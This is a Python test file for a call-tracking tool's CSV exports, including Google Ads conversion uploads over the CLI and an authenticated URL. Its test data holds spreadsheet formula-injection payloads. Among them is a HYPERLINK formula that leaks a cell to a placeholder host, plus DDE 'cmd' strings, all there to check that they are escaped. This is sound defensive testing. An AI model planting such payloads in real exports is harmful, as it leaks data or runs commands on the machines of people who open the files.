"""Exports: formula-safe CSV, the Google Ads click-conversion CSV (CLI and scheduled URL),
each conversion exported once."""

from __future__ import annotations

import base64
import csv
import io

import pytest
from aiohttp.test_utils import TestClient, TestServer
from click.testing import CliRunner

from ctrack import config as config_mod
from ctrack.cli import cli
from ctrack.exports import ExportError
from ctrack.exports.csvsafe import neutralize, to_csv
from ctrack.exports.google_ads import check_conversion_name, conversion_time
from ctrack.services import Services
from ctrack.web.app import create_app
from tests.support.report_data import TZ, call, new_db, save_calls, utc

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "value, safe",
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),  # harmless in a spreadsheet
        ("+12125550001", "+12125550001"),  # an E.164 number stays usable
        ("-3.5", "-3.5"),
        ("Jane Doe", "Jane Doe"),
        (42, 42),
        (None, None),
    ],
)
def test_neutralize(value, safe):
    assert neutralize(value) == safe


def test_to_csv_neutralizes_every_cell_and_quotes_properly():
    text = to_csv([{"name": EVIL, "n": 3, "ok": True, "none": None}], ("name", "n", "ok", "none"))
    assert list(csv.reader(io.StringIO(text))) == [["name", "n", "ok", "none"], ["'" + EVIL, "3", "yes", ""]]


def test_conversion_time_carries_the_offset_of_that_moment():
    assert conversion_time(utc("2024-03-10 06:59:59"), TZ) == "2024-03-10 01:59:59-05:00"
    assert conversion_time(utc("2024-03-10 07:00:00"), TZ) == "2024-03-10 03:00:00-04:00"
    assert conversion_time(utc("2024-01-01 18:30:00"), "Asia/Kolkata") == "2024-01-02 00:00:00+05:30"


@pytest.mark.parametrize("name", ["", "   ", "=cmd", "-x", "a\nb", "x" * 101])
def test_conversion_name_is_checked(name):
    with pytest.raises(ExportError):
        check_conversion_name(name)


G1 = "Cj0KCQjwOne_Conversion-1"
G2 = "EAIaIQobTwo_Conversion-2"


@pytest.fixture
def env(tmp_path, ctrack_db):
    path = ctrack_db
    conn = new_db(path)
    save_calls(
        path,
        [
            call("g1", "2024-03-10 07:30:00", "Google Ads", "+12125550001", "answered", 90, gclid=G1),
            call("g2", "2024-03-09 04:30:00", "Google Ads", "+12125550002", "answered", 61, gclid=G2),
            call("g3", "2024-03-10 08:00:00", "Google Ads", "+12125550003", "answered", 30, gclid="Cj0NotQualified3"),
            call("g4", "2024-03-10 09:00:00", "Google Ads", "+12125550004", "answered", 300, gclid=EVIL),
            call("g5", "2024-03-10 10:00:00", "Radio", "+12125550005", "answered", 300),
            call("g6", "2024-03-10 11:00:00", "Google Ads", "+12125550006", "missed", gclid="Cj0MissedCall6"),
        ],
    )
    conn.execute("UPDATE calls SET value = 250 WHERE uniqueid = 'g2'")
    ini = tmp_path / "ctrack.ini"
    ini.write_text(
        f"[ctrack]\ntimezone = {TZ}\n[conversions]\ncurrency = eur\nvalue = 15\n"
        "[google_ads]\nconversion_name = Booked call\nupload_user = googleads\n"
        "upload_password = s3cret-upload-pass\n"
    )

    def run(*args):
        return CliRunner().invoke(cli, ["--config", str(ini), "--db", str(path), *args])

    return run, conn, ini, path


HEADER = [
    "Parameters:TimeZone=America/New_York",
    "Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency",
]
ROW_G2 = f"{G2},Booked call,2024-03-08 23:30:00-05:00,250.00,EUR"
ROW_G1 = f"{G1},Booked call,2024-03-10 03:30:00-04:00,15.00,EUR"


def test_cli_exports_each_conversion_once(env):
    run, conn, _, _ = env
    result = run("export", "google-ads", "--conversion-name", "Booked call")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [*HEADER, ROW_G2, ROW_G1]
    assert result.stderr == "ctrack: warning: left out 1 calls whose gclid is not a Google click id\n"
    again = run("export", "google-ads", "--conversion-name", "Booked call")
    assert again.stdout.splitlines() == HEADER
    assert "0 conversions exported" in again.stderr
    other = run("export", "google-ads", "--conversion-name", "Phone lead")
    assert [line.split(",")[0] for line in other.stdout.splitlines()[2:]] == [G2, G1]
    resend = run(
        "export", "google-ads", "--conversion-name", "Booked call", "--include-exported", "--since", "2024-03-09"
    )
    assert resend.stdout.splitlines() == [*HEADER, ROW_G1]  # g2 was on 03-08 local time
    assert conn.execute("SELECT count(*) FROM outbox WHERE kind = 'google_ads'").fetchone()[0] == 4


def test_cli_marks_nothing_when_the_file_cannot_be_written(env, tmp_path):
    run, conn, _, _ = env
    result = run("export", "google-ads", "--conversion-name", "Booked call", "-o", str(tmp_path / "no" / "x.csv"))
    assert result.exit_code == 1
    assert result.output.endswith("x.csv: cannot write (No such file or directory)\n")
    assert conn.execute("SELECT count(*) FROM outbox WHERE kind = 'google_ads'").fetchone()[0] == 0
    out = tmp_path / "ok.csv"
    result = run("export", "google-ads", "--conversion-name", "Booked call", "-o", str(out))
    assert result.exit_code == 0
    assert out.read_text().splitlines() == [*HEADER, ROW_G2, ROW_G1]
    assert result.stderr.endswith(f"2 conversions exported to {out}\n")


def test_cli_refuses_a_formula_as_conversion_name(env):
    run, conn, _, _ = env
    result = run("export", "google-ads", "--conversion-name", "=1+1")
    assert result.exit_code == 1
    assert result.output == (
        "ctrack: error: conversion name '=1+1': use up to 100 characters, starting with a letter or digit\n"
    )


async def test_scheduled_upload_url_needs_basic_auth_and_exports_once(env):
    run, conn, ini, path = env
    services = Services(config_mod.load(ini), path)
    await services.writer.start()
    client = TestClient(TestServer(create_app(services)))
    await client.start_server()
    try:
        resp = await client.get("/exports/google-ads.csv")
        assert resp.status == 401 and resp.headers["WWW-Authenticate"].startswith("Basic")
        wrong = base64.b64encode(b"googleads:guess").decode()
        assert (await client.get("/exports/google-ads.csv", headers={"Authorization": f"Basic {wrong}"})).status == 401
        right = {"Authorization": "Basic " + base64.b64encode(b"googleads:s3cret-upload-pass").decode()}
        resp = await client.get("/exports/google-ads.csv", headers=right)
        assert resp.status == 200 and resp.content_type == "text/csv"
        assert (await resp.text()).splitlines() == [*HEADER, ROW_G2, ROW_G1]
        resp = await client.get("/exports/google-ads.csv", headers=right)
        assert (await resp.text()).splitlines() == HEADER
    finally:
        await client.close()
        await services.writer.close()
    # The CLI shares the marks: nothing is left for this conversion name.
    assert run("export", "google-ads", "--conversion-name", "Booked call").stdout.splitlines() == HEADER


async def test_no_url_without_credentials(ctrack_db):
    path = ctrack_db
    new_db(path).close()
    services = Services(config_mod.defaults(), path)
    await services.writer.start()  # as the daemon does before its HTTP side starts
    client = TestClient(TestServer(create_app(services)))
    await client.start_server()
    try:
        assert (await client.get("/exports/google-ads.csv")).status == 404
    finally:
        await client.close()
        await services.writer.close()
